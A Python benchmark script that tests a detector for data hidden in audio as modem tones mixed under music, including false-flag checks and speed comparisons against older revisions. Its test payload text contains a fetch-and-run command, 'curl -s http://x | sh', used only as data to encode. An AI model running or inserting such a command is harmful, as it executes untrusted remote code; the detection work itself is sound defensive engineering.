"""How well audiomodel.modem finds data sent as sound, and how often it flags good audio.

Modem audio comes from the real tool (``minimodem --tx``, Debian package; a bench/test tool,
never a runtime dependency), carrying the bytes of a real ELF (/bin/true) or of text, alone
or mixed under real music clips from the dev corpus at several levels. Rates and mix levels are
split: the detector was developed on the ``tune`` settings; the table reports ``held-out``
settings it never saw (other rates, other levels, held-out music clips).

Good audio: held-out real music clips of the dev corpus, and synthesised renditions of what
looks most like a modem (synth arpeggios, a chiptune square-wave arpeggio at a 60 Hz frame
rate, DTMF dialling, a test tone, a sweep, bird-like chirps, Morse beeps).

    uv run --frozen python bench/modem_eval.py [--corpus .cache/corpus/full-seed0] [--clips 6]
    # development under music as loud as the modem (train clips, the tune rates)
    uv run --frozen python bench/modem_eval.py --tune --levels -3 0 1 3 --clips 6 --good-clips 0

Cost of the scan: ``--speed-against REV`` times the scanner as it is now against
``audiomodel/modem.py`` at git revision REV, interleaved on the same real music files (train
clips of the corpus, ``--speed-files``, fed as 16-bit blocks with their channel sum as the
validator does), and checks both report the same. Timing on a shared machine is noisy: read the
ratio, not the seconds.

    uv run --frozen python bench/modem_eval.py --speed-against main --speed-files 40

A speed change must not change what the scan says: ``--compare-against REV`` runs every case of
the tables (the modem cases, the good clips, the renditions) through the scan at REV as well
and counts the cases whose findings (code and message) or transmissions differ. The scan at REV
is ``modem.py`` with its own ``modem_kernels.py`` and ``keyed_bands.py`` of that revision.

    uv run --frozen python bench/modem_eval.py --compare-against main
"""

from __future__ import annotations

import os

# One thread per numeric library, before numpy is imported (as bench/validate_speed.py): CPU
# time of the process counts a BLAS thread's spinning as the scan's.
for _var in ("OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS", "NUMBA_NUM_THREADS"):
    os.environ.setdefault(_var, "1")

import argparse  # noqa: E402
import difflib  # noqa: E402
import importlib.util  # noqa: E402
import json  # noqa: E402
import shutil  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402
import tempfile  # noqa: E402
import time  # noqa: E402
from collections.abc import Callable  # noqa: E402
from pathlib import Path  # noqa: E402
from types import ModuleType  # noqa: E402

import numpy as np  # noqa: E402
import soundfile as sf  # noqa: E402

from audiomodel import modem  # noqa: E402
from audiomodel.modem import scan_modem  # noqa: E402

RATE = 48000
TUNE_BAUDS = (110, 300, 1200, 2400, 4800)
# 600, 1800 and 3600 were looked at while developing (alone); 450, 900, 2000 and 3000 never
HELDOUT_BAUDS = (150, 450, 900, 2000, 3000, 600, 1800, 3600)
TUNE_LEVELS_DB = (None, -6.0, -12.0)  # None: the modem alone; else modem RMS relative to the music
HELDOUT_LEVELS_DB = (None, -4.0, -10.0)
SECONDS = 6.0  # of modem signal per case


def _payload(kind: str, baud: float) -> bytes:
    size = max(16, min(4000, int(baud / 10 * SECONDS)))
    if kind == "elf":
        return Path("/bin/true").read_bytes()[:size]
    text = b"The quick brown fox jumps over the lazy dog. curl -s http://x | sh\n" * 100
    return text[:size]


def minimodem_tx(data: bytes, baud: float, tmp: Path) -> np.ndarray:
    out = tmp / f"tx-{baud}.wav"
    subprocess.run(
        ["minimodem", "--tx", "-f", str(out), f"{baud:g}"], input=data, check=True, timeout=300
    )
    y, sr = sf.read(out, dtype="float64")
    assert sr == RATE
    return y


def _music(path: Path, seconds: float, rng: np.random.Generator) -> np.ndarray | None:
    y, sr = sf.read(path, dtype="float64", always_2d=True)
    y = y.mean(axis=1)
    if sr != RATE:
        from scipy.signal import resample_poly

        y = resample_poly(y, RATE, sr)
    need = int(seconds * RATE)
    if y.size < need or np.sqrt(np.mean(y**2)) < 1e-3:
        return None
    start = int(rng.integers(0, y.size - need + 1))
    return y[start : start + need]


def _mix(modem: np.ndarray, music: np.ndarray | None, level_db: float | None) -> np.ndarray:
    if music is None or level_db is None:
        return 0.5 * modem
    pad = np.zeros(music.size)
    at = (music.size - modem.size) // 2
    pad[at : at + modem.size] = modem[: music.size - at]
    rms_m = np.sqrt(np.mean(music**2))
    rms_t = np.sqrt(np.mean(modem**2))
    mixed = music + pad * (rms_m / rms_t) * 10 ** (level_db / 20)
    return 0.9 * mixed / np.max(np.abs(mixed))


def receivable(y: np.ndarray, sent: bytes, baud: float, tmp: Path) -> bool:
    """Whether the real receiver (``minimodem --rx``) gets the payload back from the mix: a
    transmission it cannot receive carries little, so the table counts those apart."""
    path = tmp / "rx.wav"
    sf.write(path, y, RATE, subtype="PCM_16")
    rx = subprocess.run(
        ["minimodem", "--rx", "-q", "-f", str(path), f"{baud:g}"],
        capture_output=True,
        timeout=300,
        check=False,
    ).stdout
    # most of the payload (one flipped bit breaks an exact match under music)
    return difflib.SequenceMatcher(None, sent, rx, autojunk=False).ratio() >= 0.9


# (reference module, [cases compared, cases that differ]) under ``--compare-against``
_COMPARE: list[tuple[ModuleType, list[int]]] = []


def _scan_compared(y: np.ndarray, rate: int) -> modem.ModemReport:
    """``scan_modem`` of 16-bit samples; under ``--compare-against`` the reference's too,
    counting a difference in the findings or in the transmissions (their floats included)."""
    report = scan_modem(y, rate)
    for reference, counts in _COMPARE:
        other = reference.scan_modem(y, rate)
        counts[0] += 1
        counts[1] += _described(report) != _described(other)
    return report


def _described(report: modem.ModemReport) -> list[str]:
    return [f"{f.code}: {f.message}" for f in report.findings] + [
        repr(t) for t in report.transmissions
    ]


def _judge(y: np.ndarray, sent: bytes) -> tuple[bool, bool]:
    report = _scan_compared((y * 32767).astype(np.int16), RATE)
    found = any(f.code == "signal.modem" for f in report.findings)
    recovered = any(
        t.demodulated is not None and sent in t.demodulated.data for t in report.transmissions
    )
    return found, recovered


# -- good audio that looks most like a modem ---------------------------------------------------


def _tone(freq: float | np.ndarray, seconds: float, harmonics: int = 1) -> np.ndarray:
    n = np.size(freq) if np.ndim(freq) else int(seconds * RATE)
    phase = 2 * np.pi * np.cumsum(np.broadcast_to(freq, (n,))) / RATE
    return sum(np.sin(k * phase) / k for k in range(1, harmonics + 1, 1))  # type: ignore[return-value]


def synth_arpeggio(rng: np.random.Generator) -> np.ndarray:
    root = 220 * 2 ** (rng.integers(0, 12) / 12)
    notes = root * 2 ** (np.array([0, 4, 7, 12]) / 12)
    step = 60 / rng.uniform(100, 160) / 4  # sixteenth notes
    out = [
        _tone(notes[i % 4], step, harmonics=6) * np.exp(-np.arange(int(step * RATE)) / (RATE * 0.1))
        for i in range(int(10 / step))
    ]
    return np.concatenate(out)


def chiptune(rng: np.random.Generator) -> np.ndarray:
    """Square-wave arpeggio switching notes every 1/60 s frame, exactly (NES style)."""
    root = 262 * 2 ** (rng.integers(0, 12) / 12)
    notes = root * 2 ** (np.array([0, 4, 7]) / 12)
    frame = int(RATE / 60)
    freqs = np.repeat(np.resize(notes, 10 * 60), frame)
    phase = np.cumsum(freqs) / RATE
    return np.sign(np.sin(2 * np.pi * phase)) * 0.5


def dtmf(rng: np.random.Generator) -> np.ndarray:
    low, high = (697, 770, 852, 941), (1209, 1336, 1477)
    out = []
    for _ in range(40):
        on = _tone(low[rng.integers(0, 4)], 0.08) + _tone(high[rng.integers(0, 3)], 0.08)
        out += [on, np.zeros(int(0.07 * RATE))]
    return np.concatenate(out) * 0.4


def test_tone(rng: np.random.Generator) -> np.ndarray:
    return _tone(float(rng.choice([440.0, 1000.0, 1200.0])), 10.0) * 0.5


def sweep(rng: np.random.Generator) -> np.ndarray:
    return _tone(np.geomspace(100, 7000, int(10 * RATE)), 10.0) * 0.5


def birds(rng: np.random.Generator) -> np.ndarray:
    out = []
    for _ in range(40):
        n = int(rng.uniform(0.05, 0.2) * RATE)
        f = np.linspace(rng.uniform(2000, 4000), rng.uniform(3000, 6000), n)
        f += 300 * np.sin(2 * np.pi * rng.uniform(20, 60) * np.arange(n) / RATE)
        out += [
            _tone(f, n / RATE)[:n] * np.hanning(n),
            np.zeros(int(rng.uniform(0.02, 0.3) * RATE)),
        ]
    y = np.concatenate(out)
    return y * 0.5 + rng.normal(0, 0.003, y.size)


def morse(rng: np.random.Generator) -> np.ndarray:
    dot = 1.2 / rng.uniform(15, 40)  # PARIS timing at 15-40 words per minute
    tone = float(rng.uniform(500, 900))
    out = []
    for symbol in rng.integers(0, 3, 120):
        length = (dot, 3 * dot, 0.0)[symbol]
        if length:
            out += [_tone(tone, length), np.zeros(int(dot * RATE))]
        else:
            out.append(np.zeros(int(2 * dot * RATE)))
    return np.concatenate(out) * 0.5


SYNTH: dict[str, Callable[[np.random.Generator], np.ndarray]] = {
    "synth arpeggio": synth_arpeggio,
    "chiptune 60 Hz arpeggio": chiptune,
    "DTMF dialling": dtmf,
    "test tone": test_tone,
    "sweep": sweep,
    "bird-like chirps": birds,
    "Morse beeps": morse,
}


def _flagged(y: np.ndarray) -> bool:
    y = y / max(1e-9, float(np.max(np.abs(y)))) * 0.9
    return bool(_scan_compared((y * 32767).astype(np.int16), RATE).findings)


def _cells(row: list[int]) -> str:
    cases, det, rec, ok, ok_det, ok_rec = row
    share = lambda a, b: f"{a / b:.0%}" if b else "-"  # noqa: E731
    return (
        f"{cases} | {share(det, cases)} | {share(rec, cases)} | {ok} | {share(ok_det, ok)} "
        f"| {share(ok_rec, ok)}"
    )


def _scan(module: ModuleType, y: np.ndarray, rate: int) -> list[str]:
    scanner = module.ModemScanner(rate, y.shape[1])
    for start in range(0, y.shape[0], 1 << 16):
        block = y[start : start + (1 << 16)]
        summed = block[:, 0].astype(np.int32)
        for c in range(1, block.shape[1]):
            summed += block[:, c]
        scanner.update(block, summed=summed)
    return _described(scanner.report())


_SOURCES = "libs/audiomodel/src/audiomodel"


def _reference(rev: str) -> ModuleType:
    """``modem.py`` at ``rev`` as module ``modem_ref``, importing that revision's own
    ``modem_kernels`` and ``keyed_bands`` (as ``modem_kernels_ref``, ``keyed_bands_ref``) where
    it has them. Written under ``.cache/modem_ref/COMMIT`` (a fixed path: numba's cache of the
    reference's kernels is kept between runs)."""
    commit = subprocess.run(
        ["git", "rev-parse", rev], check=True, capture_output=True, text=True
    ).stdout.strip()
    folder = Path(".cache/modem_ref") / commit
    folder.mkdir(parents=True, exist_ok=True)
    module = None
    for name in ("modem_kernels", "keyed_bands", "modem"):
        shown = subprocess.run(
            ["git", "show", f"{commit}:{_SOURCES}/{name}.py"], capture_output=True, check=False
        )
        if shown.returncode != 0:
            continue  # a revision before the module
        source = shown.stdout.replace(
            b"from audiomodel.modem_kernels import", b"from modem_kernels_ref import"
        ).replace(b"from audiomodel.keyed_bands import", b"from keyed_bands_ref import")
        path = folder / f"{name}_ref.py"
        if not path.exists() or path.read_bytes() != source:
            path.write_bytes(source)
        spec = importlib.util.spec_from_file_location(f"{name}_ref", path)
        assert spec is not None and spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        sys.modules[f"{name}_ref"] = module  # dataclasses look their module up there
        spec.loader.exec_module(module)
    assert module is not None
    return module


def speed(corpus: Path, rev: str, count: int, rounds: int) -> None:
    """The scan now against the scan at ``rev``, interleaved file by file."""
    reference = _reference(rev)
    rows = [json.loads(line) for line in (corpus / "manifest.jsonl").open()]
    paths = [
        corpus / r["path"] for r in rows if r["threat_class"] == "real" and r["split"] == "train"
    ][:count]
    clips = []
    for p in paths:
        with sf.SoundFile(p) as f:
            clips.append((f.read(dtype="int16", always_2d=True), f.samplerate))
    for y, rate in clips:  # loads every kernel of both sides and warms the FFT plans
        _scan(reference, y, rate)
        _scan(modem, y, rate)
    spent = {"reference": 0.0, "now": 0.0}
    found: dict[str, list[str]] = {}
    differ = 0
    # Each side goes first on every other file (the second scan of a file finds its samples
    # and the allocator warm); CPU time of this process, so waits for the core on a shared
    # machine do not count.
    turn = 0
    for _ in range(rounds):
        for y, rate in clips:
            order = [("reference", reference), ("now", modem)]
            for side, module in order if turn % 2 == 0 else order[::-1]:
                started = time.process_time()
                found[side] = _scan(module, y, rate)
                spent[side] += time.process_time() - started
            turn += 1
            differ += found["reference"] != found["now"]
    audio = sum(y.shape[0] / rate for y, rate in clips)
    print(
        f"modem scan on {len(clips)} real clips ({audio:.0f} s of audio) x {rounds}: "
        f"{rev} {spent['reference']:.2f} s, now {spent['now']:.2f} s, "
        f"now/{rev} = {spent['now'] / spent['reference']:.3f}; findings or transmissions differ on "
        f"{differ} of {len(clips) * rounds}"
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--corpus", type=Path, default=Path(".cache/corpus/full-seed0"))
    parser.add_argument("--clips", type=int, default=6, help="music clips per mix level")
    parser.add_argument(
        "--good-clips", type=int, default=60, help="held-out real clips for false flags"
    )
    parser.add_argument("--synth", type=int, default=5, help="renditions per synthetic family")
    parser.add_argument("--tune", action="store_true", help="report the tune settings instead")
    parser.add_argument(
        "--bauds", type=float, nargs="*", help="rates to test (default: the split's)"
    )
    parser.add_argument(
        "--levels",
        type=float,
        nargs="*",
        help="mix levels in dB, modem vs music (default: the split's); e.g. -3 0 1 3, where "
        "music as loud as the modem hides it",
    )
    parser.add_argument("--speed-against", metavar="REV", help="time the scan against REV")
    parser.add_argument("--speed-files", type=int, default=40)
    parser.add_argument("--speed-rounds", type=int, default=2)
    parser.add_argument(
        "--compare-against", metavar="REV", help="count the cases the scan at REV reports apart"
    )
    args = parser.parse_args()
    if args.compare_against:
        _COMPARE.append((_reference(args.compare_against), [0, 0]))
    if args.speed_against:
        speed(args.corpus, args.speed_against, args.speed_files, args.speed_rounds)
        return
    if shutil.which("minimodem") is None:
        raise SystemExit("minimodem is not installed (apt-get install minimodem)")
    rng = np.random.default_rng(7)
    rows = [json.loads(line) for line in (args.corpus / "manifest.jsonl").open()]
    split = "train" if args.tune else "heldout"
    real = [
        args.corpus / r["path"] for r in rows if r["threat_class"] == "real" and r["split"] == split
    ]
    bauds = args.bauds or (TUNE_BAUDS if args.tune else HELDOUT_BAUDS)
    levels = args.levels or (TUNE_LEVELS_DB if args.tune else HELDOUT_LEVELS_DB)
    started = time.perf_counter()
    print(f"# modem detection ({'tune' if args.tune else 'held-out'} settings)")
    print(
        "| baud | mix (modem vs music) | cases | detected | bytes recovered exactly "
        "| minimodem --rx receives | detected of those | recovered of those |"
    )
    print("| --- | --- | --- | --- | --- | --- | --- | --- |")
    totals = [0, 0, 0, 0, 0, 0]
    with tempfile.TemporaryDirectory() as tmp_name:
        tmp = Path(tmp_name)
        for baud in bauds:
            for level in levels:
                cases = det = rec = ok = ok_det = ok_rec = 0
                for i in range(args.clips if level is not None else 2):
                    sent = _payload("elf" if i % 2 == 0 else "text", baud)
                    modem = minimodem_tx(sent, baud, tmp)
                    music = None
                    if level is not None:
                        for _ in range(20):
                            music = _music(
                                real[int(rng.integers(0, len(real)))], modem.size / RATE + 4, rng
                            )
                            if music is not None:
                                break
                    if level is not None and music is None:
                        continue  # no clip long enough: not a mix
                    y = _mix(modem, music, level)
                    found, recovered = _judge(y, sent)
                    rx = receivable(y, sent, baud, tmp)
                    cases, det, rec = cases + 1, det + found, rec + recovered
                    ok, ok_det, ok_rec = (
                        ok + rx,
                        ok_det + (rx and found),
                        ok_rec + (rx and recovered),
                    )
                mix = "alone" if level is None else f"{level:+.0f} dB"
                row = [cases, det, rec, ok, ok_det, ok_rec]
                print(f"| {baud:g} | {mix} | {_cells(row)} |")
                totals = [a + b for a, b in zip(totals, row, strict=True)]
    print(f"| all | | {_cells(totals)} |")
    print("\n# false flags on good audio")
    print("| family | files | flagged |")
    print("| --- | --- | --- |")
    flagged = checked = 0
    for path in real[: args.good_clips]:
        y, _ = sf.read(path, dtype="float64", always_2d=True)
        if y.shape[0] == 0:
            continue
        checked += 1
        flagged += bool(
            _scan_compared((y * 32767).astype(np.int16), sf.info(path).samplerate).findings
        )
    print(f"| real music ({split} clips of the dev corpus) | {checked} | {flagged} |")
    for name, make in SYNTH.items():
        hits = sum(_flagged(make(rng)) for _ in range(args.synth))
        print(f"| {name} | {args.synth} | {hits} |")
    for _, (compared, differ) in _COMPARE:
        print(
            f"\nfindings or transmissions differ from {args.compare_against}: {differ} of {compared}"
        )
    print(f"\n{time.perf_counter() - started:.0f} s")


if __name__ == "__main__":
    main()
